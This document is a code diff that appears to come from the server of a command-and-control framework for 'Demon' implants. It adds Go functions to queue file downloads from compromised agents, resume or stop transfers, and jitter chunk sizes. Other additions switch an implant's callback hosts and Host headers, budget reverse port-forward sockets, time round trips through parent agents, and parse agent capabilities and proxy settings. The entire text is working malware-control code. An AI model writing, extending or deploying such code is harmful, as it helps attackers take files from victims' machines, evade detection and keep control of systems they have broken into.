+func (a *Agent) DownloadRange(FilePath string, Offset, Length int64) Job {
+	var job = Job{
+		Command:   COMMAND_FS,
+		RequestID: rand.Uint32(),
+		Data: []interface{}{
+			DEMON_COMMAND_FS_DOWNLOAD,
+			common.EncodeUTF16(FilePath),
+			Offset,
+			Length,
+		},
+		CommandLine: fmt.Sprintf("download %v (bytes %v-%v)", FilePath, Offset, Offset+Length),
+		Created:     time.Now().UTC().Format("02/01/2006 15:04:05"),
+	}
+
+	a.AddJobToQueue(job)
+
+	return job
+}
+
+// DownloadFetch
+// queues the transfer of a file the agent sent the hash of before
+// downloading it. it keeps the request id of the download task.
+func (a *Agent) DownloadFetch(FilePath string, RequestID uint32) {
+	a.AddJobToQueue(Job{
+		Command:   COMMAND_FS,
+		RequestID: RequestID,
+		Data: []interface{}{
+			DEMON_COMMAND_FS_DOWNLOAD,
+			common.EncodeUTF16(FilePath),
+		},
+		Created: time.Now().UTC().Format("02/01/2006 15:04:05"),
+	})
+}
+
+// DownloadTransfer
+// queues a stop or resume of a running download.
+func (a *Agent) DownloadTransfer(FileID int, Resume bool) {
+	var SubCommand = DEMON_COMMAND_TRANSFER_STOP
+
+	if Resume {
+		SubCommand = DEMON_COMMAND_TRANSFER_RESUME
+	}
+
+	a.AddJobToQueue(Job{
+		Command:   COMMAND_TRANSFER,
+		RequestID: rand.Uint32(),
+		Data: []interface{}{
+			SubCommand,
+			FileID,
+		},
+		Created: time.Now().UTC().Format("02/01/2006 15:04:05"),
+	})
+}
+
+// DownloadJitter
+// sets the percent the agent randomly reduces the download chunk size by.
+func (a *Agent) DownloadJitter(Percent int) {
+	a.AddJobToQueue(Job{
+		Command:   COMMAND_CONFIG,
+		RequestID: rand.Uint32(),
+		Data: []interface{}{
+			CONFIG_IMPLANT_DOWNLOAD_JITTER,
+			Percent,
+		},
+		Created: time.Now().UTC().Format("02/01/2006 15:04:05"),
+	})
+}
+
+// TransportHosts
+// queues the switch of the agent to other callback hosts of its listener.
+// Hosts are host:port, the Host headers are the ones of the hosts in order.
+func (a *Agent) TransportHosts(Hosts, HostHeaders []string) {
+	var Data = []interface{}{
+		CONFIG_TRANSPORT_HOSTS,
+		len(Hosts),
+	}
+
+	for _, Host := range Hosts {
+		Name, Port, _ := net.SplitHostPort(Host)
+		Number, _ := strconv.Atoi(Port)
+
+		Data = append(Data, common.EncodeUTF16(Name), Number)
+	}
+
+	Data = append(Data, len(HostHeaders))
+	for _, Header := range HostHeaders {
+		if len(Header) > 0 {
+			Data = append(Data, common.EncodeUTF16("Host: "+Header))
+		} else {
+			Data = append(Data, []byte{})
+		}
+	}
+
+	a.AddJobToQueue(Job{
+		Command:     COMMAND_CONFIG,
+		RequestID:   rand.Uint32(),
+		Data:        Data,
+		CommandLine: "switch callback hosts",
+		Created:     time.Now().UTC().Format("02/01/2006 15:04:05"),
+	})
+}
+
+// TransportSwitching
+// checks if the agent has a switch of its callback hosts queued it
+// didn't fetch yet.
+func (a *Agent) TransportSwitching() bool {
+	for _, job := range a.JobQueue {
+		if job.Command == COMMAND_CONFIG && len(job.Data) > 0 && job.Data[0] == CONFIG_TRANSPORT_HOSTS {
+			return true
+		}
+	}
+
+	return false
+}
+
 func (a *Agent) DownloadGet(FileID int) *Download {
 	for _, download := range a.Downloads {
 		if download.FileID == FileID {
@@ -924,6 +1408,8 @@ func (a *Agent) PortFwdNew(SocketID, LclAddr, LclPort, FwdAddr, FwdPort int, Tar
 		Target:  Target,
 	}
 
+	a.StreamOpened(&portfwd.Stats, fmt.Sprintf("rportfwd %v", LclPort))
+
 	a.PortFwdsMtx.Lock()
 
 	a.PortFwds = append(a.PortFwds, portfwd)
@@ -960,9 +1446,10 @@ func (a *Agent) PortFwdIsOpen(SocketID int) (bool, error) {
 	}
 }
 
-func (a *Agent) PortFwdOpen(SocketID int) error {
+func (a *Agent) PortFwdOpen(SocketID int, Budget *budget.Budget) error {
 	var (
 		err     error
+		conn    net.Conn
 		PortFwd *PortFwd
 	)
 
@@ -971,8 +1458,17 @@ func (a *Agent) PortFwdOpen(SocketID int) error {
 	if PortFwd != nil {
 		if PortFwd.Conn == nil {
 			/* open the connection to the target */
-			PortFwd.Conn, err = net.Dial("tcp", PortFwd.Target)
-			return err
+			if conn, err = net.Dial("tcp", PortFwd.Target); err != nil {
+				return err
+			}
+
+			/* the socket counts against the budget of the pivots till it gets closed */
+			if PortFwd.Conn = Budget.Conn(conn); PortFwd.Conn == nil {
+				conn.Close()
+				return errors.New("socket budget of the pivots exhausted")
+			}
+
+			return nil
 		} else {
 			return errors.New("rportfwd connection is already open")
 		}
@@ -989,8 +1485,14 @@ func (a *Agent) PortFwdWrite(SocketID int, data []byte) error {
 	if PortFwd != nil {
 		/* write to the connection */
 		if PortFwd.Conn != nil {
-			_, err := PortFwd.Conn.Write(data)
-			return err
+			if _, err := PortFwd.Conn.Write(data); err != nil {
+				a.StreamFailed(&PortFwd.Stats)
+				return err
+			}
+
+			a.StreamReceived(&PortFwd.Stats, len(data))
+
+			return nil
 		} else {
 			return errors.New("rportfwd connection is empty")
 		}
@@ -1098,9 +1600,9 @@ func (a *Agent) SocksClientGet(SocketID int) *SocksClient {
 	return client
 }
 
-func (a *Agent) SocksClientRead(client *SocksClient) ([]byte, error) {
+func (a *Agent) SocksClientRead(client *SocksClient, FrameSize int) ([]byte, error) {
 	var (
-		data = make([]byte, 0x10000)
+		data = make([]byte, FrameSize)
 		read []byte
 	)
 
@@ -1194,6 +1696,175 @@ func (a *Agent) SocksServerRemove(Addr string) {
 
 }
 
+// LatencyProbe
+// queues a job the demon answers without doing anything (it lists its
+// reverse port forwards) to time the round trip to the agent, through its
+// parents and their sleep. Returns false if a probe is pending already.
+func (a *Agent) LatencyProbe() bool {
+	var Probe = Job{
+		Command:   COMMAND_SOCKET,
+		RequestID: rand.Uint32(),
+		Data:      []any{SOCKET_COMMAND_RPORTFWD_LIST},
+		Created:   time.Now().UTC().Format("02/01/2006 15:04:05"),
+	}
+
+	a.Latency.Lock()
+
+	if len(a.Latency.Probes) > 0 {
+		a.Latency.Unlock()
+		return false
+	}
+
+	if a.Latency.Probes == nil {
+		a.Latency.Probes = make(map[uint32]time.Time)
+	}
+
+	a.Latency.Probes[Probe.RequestID] = time.Now()
+
+	a.Latency.Unlock()
+
+	a.AddJobToQueue(Probe)
+
+	return true
+}
+
+// LatencyAnswered
+// records the round trip if the request is a latency probe. The answer of
+// a probe isn't dispatched any further.
+func (a *Agent) LatencyAnswered(RequestID uint32) bool {
+	a.Latency.Lock()
+
+	Sent, ok := a.Latency.Probes[RequestID]
+	if ok {
+		delete(a.Latency.Probes, RequestID)
+
+		a.Latency.RTT = time.Since(Sent)
+		a.Latency.Measured = time.Now()
+	}
+
+	a.Latency.Unlock()
+
+	if ok {
+		a.RequestCompleted(RequestID)
+	}
+
+	return ok
+}
+
+// RoundTrip
+// returns the round trip the last latency probe took, when it got measured
+// and since when a probe is waiting for the answer of the agent.
+func (a *Agent) RoundTrip() (time.Duration, time.Time, time.Time) {
+	var Pending time.Time
+
+	a.Latency.Lock()
+	defer a.Latency.Unlock()
+
+	for _, Sent := range a.Latency.Probes {
+		Pending = Sent
+	}
+
+	return a.Latency.RTT, a.Latency.Measured, Pending
+}
+
+// ParseProxyPath
+// parses the optional proxy path an http agent appends to its metadata.
+// older agents don't send it so an empty string is returned.
+func ParseProxyPath(Parser *parser.Parser) string {
+	var (
+		Mode  int
+		Proxy string
+	)
+
+	if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadBytes}) {
+		return ""
+	}
+
+	Mode = Parser.ParseInt32()
+	Proxy = Parser.ParseUTF16String()
+
+	switch Mode {
+
+	case PROXY_MODE_EXPLICIT:
+		return "Explicit (" + Proxy + ")"
+
+	case PROXY_MODE_DIRECT:
+		return "Direct"
+
+	case PROXY_MODE_NONE:
+		return ""
+
+	default:
+		if len(Proxy) > 0 {
+			return "System (" + Proxy + ")"
+		}
+		return "System (no proxy)"
+	}
+}
+
+// ParseCapabilities
+// parses the ids of the commands the agent build supports.
+// returns nil for agents that don't report them.
+func ParseCapabilities(Parser *parser.Parser) []uint32 {
+	var (
+		Count        int
+		Capabilities []uint32
+	)
+
+	if !Parser.CanIRead([]parser.ReadType{parser.ReadInt32}) {
+		return nil
+	}
+
+	Count = Parser.ParseInt32()
+	if Count < 0 || Parser.Length() < Count*4 {
+		return nil
+	}
+
+	Capabilities = make([]uint32, 0, Count)
+	for i := 0; i < Count; i++ {
+		Capabilities = append(Capabilities, uint32(Parser.ParseInt32()))
+	}
+
+	return Capabilities
+}
+
+// Supports
+// checks if the agent build supports the command. Agents that
+// didn't report their capabilities are assumed to support everything.
+func (a *Agent) Supports(Command uint32) bool {
+	if a.Info == nil || a.Info.Capabilities == nil {
+		return true
+	}
+
+	for _, ID := range a.Info.Capabilities {
+		if ID == Command {
+			return true
+		}
+	}
+
+	return false
+}
+
+// CapabilityNames
+// returns the names of the commands the agent build supports.
+func (a *Agent) CapabilityNames() []string {
+	var Names []string
+
+	if a.Info == nil {
+		return nil
+	}
+
+	for _, ID := range a.Info.Capabilities {
+		if Name, ok := CommandNames[ID]; ok {
+			Names = append(Names, Name)
+		} else {
+			Names = append(Names, fmt.Sprintf("0x%x", ID))
+		}
+	}
+
+	return Names
+}
+
 // ToMap returns the agent info as a map
 func (a *Agent) ToMap() map[string]interface{} {
 	var (
@@ -1240,11 +1911,6 @@ func (a *Agent) ToJson() string {
 	return string(jsonBytes)
 }
 
-func (agents *Agents) AgentsAppend(demon *Agent) []*Agent {
-	agents.Agents = append(agents.Agents, demon)
-	return agents.Agents
-}
-
 func getWindowsVersionString(OsVersion []int) string {
 	var WinVersion = "Unknown"
 